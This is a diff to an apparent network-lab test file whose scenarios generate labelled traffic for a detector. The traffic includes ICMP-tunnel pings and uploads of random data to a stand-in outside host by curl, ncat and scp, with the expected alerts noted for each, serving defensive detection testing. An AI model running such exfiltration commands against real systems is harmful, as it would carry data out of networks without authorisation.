@@ -2,6 +2,7 @@
 
 import time
 
+import services
 from lab import OUTSIDE
 from record import LOCAL, by, capture
 
@@ -58,11 +59,11 @@ def shell(lab):
     lab.outside.sysctl("net.ipv4.icmp_echo_ignore_all=0")
 
 
-@capture("icmptunnel_upload_nping", "a file sent in echo requests with nping: 50 with 900 other bytes each, mirrored by the outside host",
+@capture("icmptunnel_upload_nping", "a file sent in echo requests with nping: 36 with 900 other bytes each, mirrored by the outside host",
          expect=[(ICMP, by("pc3", "outside"))], allow=["icmp-flood", "data-exfiltration"])
 def nping(lab):
     yield
-    for n in range(50):
+    for n in range(36):
         lab.pc3.run(f"nping --icmp -c 1 --data $(head -c 900 /dev/urandom | od -An -v -tx1 | tr -d ' \\n') {OUTSIDE} >/dev/null 2>&1 &")
         time.sleep(0.03)
     time.sleep(1.5)
@@ -119,26 +120,31 @@ def curl(lab):
 
 
 def offloads(lab, state):
-    for host, device in ((lab.pc1, "eth0"), (lab.server, "eth0"), (lab.router, "eth0"), (lab.router, "wan0"), (lab.outside, "eth0")):
-        lab.router.run("true")
+    for host, device in ((lab.pc1, "eth0"), (lab.pc2, "eth0"), (lab.pc3, "eth0"), (lab.server, "eth0"), (lab.router, "eth0"), (lab.router, "wan0"), (lab.outside, "eth0")):
         host.run(f"ethtool -K {device} tso {state} gso {state} gro {state} tx {state}")
 
 
-@capture("exfil_http_post_1MB", "curl posts 1.1 MB over plain HTTP, once",
+@capture("exfil_http_post_1MB", "curl posts 1.1 MB over plain HTTP, once; segments of 64 kB",
          expect=[(EXFIL, by("pc2"))], allow=["traffic-spike"], set=LESS, snap=72)
 def post(lab):
+    offloads(lab, "on")
     lab.outside.start_tool("web.py", "80", wait=0.8)
     yield
-    lab.pc2.run(f"head -c 1900000 /dev/urandom | curl -s -o /dev/null --data-binary @- http://{OUTSIDE}/drop", timeout=20)
+    lab.pc2.run(f"head -c 1100000 /dev/urandom | curl -s -o /dev/null --data-binary @- http://{OUTSIDE}/drop", timeout=20)
+    yield
+    offloads(lab, "off")
 
 
-@capture("exfil_small_posts", "60 posts of 19 kB each by HTTPS, three a second, each a connection",
+@capture("exfil_small_posts", "60 posts of 19 kB each by HTTPS, three a second, each a connection; segments of up to 64 kB",
          expect=[(EXFIL + BEACON, by("pc3"))], allow=["beaconing", "data-exfiltration"] + TLS, set=LESS, snap=72)
 def posts(lab):
+    offloads(lab, "on")
     curl = https(lab, lab.outside)
     yield
     lab.pc3.run(f"head -c 19000 /dev/urandom > {lab.dir}/piece; for n in $(seq 60); do "
                 f"{curl} --data-binary @{lab.dir}/piece https://www.example.com/api/v2/sync; sleep 0.25; done", timeout=90)
+    yield
+    offloads(lab, "off")
 
 
 @capture("exfil_raw_tcp_ipv6", "1.2 MB by ncat over IPv6 to a host outside",
@@ -147,6 +153,18 @@ def six_upload(lab):
     lab.outside.start("exec ncat -6 -l 4444 --recv-only > /dev/null", wait=0.4)
     yield
     lab.pi.run("head -c 1200000 /dev/urandom | timeout 10 ncat -6 --send-only 2001:db8:ffff::10 4444", timeout=15)
+
+
+@capture("exfil_scp", "scp copies 1.3 MB to a host outside; segments of 64 kB",
+         expect=[(EXFIL, by("pc1"))], allow=["traffic-spike"], set=LESS, snap=128)
+def scp(lab):
+    offloads(lab, "on")
+    options, key = services.sshd(lab, lab.outside)
+    lab.pc1.run(f"head -c 1300000 /dev/urandom > {lab.dir}/archive; cp {key} {lab.dir}/key; chmod 600 {lab.dir}/key")
+    yield
+    lab.pc1.run(f"scp -i {lab.dir}/key {options} {lab.dir}/archive anna@{OUTSIDE}:/dev/null", timeout=20)
+    yield
+    offloads(lab, "off")
 
 
 @capture("quiet_big_download", "curl fetches 12 MB by HTTPS; segments of 64 kB", allow=TLS, set=MUCH, snap=80, packets=2500)
@@ -235,7 +253,17 @@ def ntp(lab):
     lab.pc1.run(f"timeout 60 chronyd -x -d -U -f {conf}", timeout=65)
 
 
-@capture("quiet_browsing", "a person browses: bursts of requests with pauses of one to nine seconds, a minute long", allow=TLS, set=SOON, snap=400)
+@capture("quiet_mail_poller", "a mail client looks into a mailbox outside every 3 s, 17 times, STARTTLS first: a poller, and one can see what for",
+         allow=["certificate-problem"], set=SOON, snap=300)
+def poller(lab):
+    services.dovecot(lab, lab.outside)
+    yield
+    for _ in range(17):
+        lab.pc2.run(f"curl -s -k --ssl-reqd imap://{OUTSIDE}/INBOX -u anna:{services.PASSWORD} -X 'STATUS INBOX (MESSAGES UNSEEN)'")
+        time.sleep(2.7)
+
+
+@capture("quiet_browsing", "a person browses: bursts of requests with pauses of one to nine seconds, a minute long", allow=TLS, set=SOON, snap=160)
 def browsing(lab):
     curl = https(lab, lab.outside)
     yield
